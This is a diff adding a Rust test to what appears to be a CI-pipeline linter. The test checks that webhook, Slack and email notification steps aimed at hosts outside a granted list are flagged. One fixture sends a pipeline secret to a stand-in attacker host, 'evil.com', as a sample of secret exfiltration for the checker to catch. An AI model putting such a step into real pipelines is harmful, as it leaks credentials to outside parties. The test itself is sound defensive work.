@@ -84,3 +84,35 @@ fn mails_are_checked() {
     assert!(plain.contains("P0019 the password would be sent in plain"), "{plain}");
     assert!(open.contains("P0024 a password stands in the file"), "{open}");
 }
+
+/// Hosts are looked at where they are written, in each kind.
+#[test]
+fn hosts_that_are_not_granted_are_named() {
+    let folder = tempfile::tempdir().expect("a folder");
+    let granted = "permissions: {http: [hooks.example.com, \"*.corp.example.com\"]}\n";
+    for (step, expected) in [
+        ("uses: notify.webhook\nwith: {url: \"https://hooks.example.com/x\"}", ""),
+        ("uses: notify.webhook\nwith: {url: \"https://hooks.example.com/${{ secrets.T }}\"}", ""),
+        ("uses: notify.webhook\nwith: {url: \"${{ secrets.T }}\"}", ""),
+        ("uses: notify.webhook\nwith: {url: \"https://evil.com/${{ secrets.T }}\"}", "`evil.com`"),
+        ("uses: notify.webhook\nwith: {url: \"http://corp.example.com/\"}", "`corp.example.com`"),
+        (
+            "uses: notify.slack\nwith: {webhook: \"https://hooks.slack.com/${{ secrets.T }}\", text: x}",
+            "`hooks.slack.com`",
+        ),
+        (
+            "uses: notify.email\nwith: {server: {host: smtp.corp.example.com}, from: a@b.cc, to: a@b.cc, subject: s, text: t}",
+            "",
+        ),
+        (
+            "uses: notify.email\nwith: {server: {host: smtp.example.com}, from: a@b.cc, to: a@b.cc, subject: s, text: t}",
+            "`smtp.example.com`",
+        ),
+    ] {
+        let text = pipeline(&["T"], step).replacen("steps:", &format!("{granted}steps:"), 1);
+        let checked = check(&text, folder.path());
+        let found: Vec<_> = checked.diagnostics.iter().filter(|d| d.code.as_str() == "T0111").collect();
+        assert_eq!(found.len(), usize::from(!expected.is_empty()), "{step}");
+        assert!(found.iter().all(|d| d.message.contains(expected) && d.help.is_some()), "{found:?}");
+    }
+}
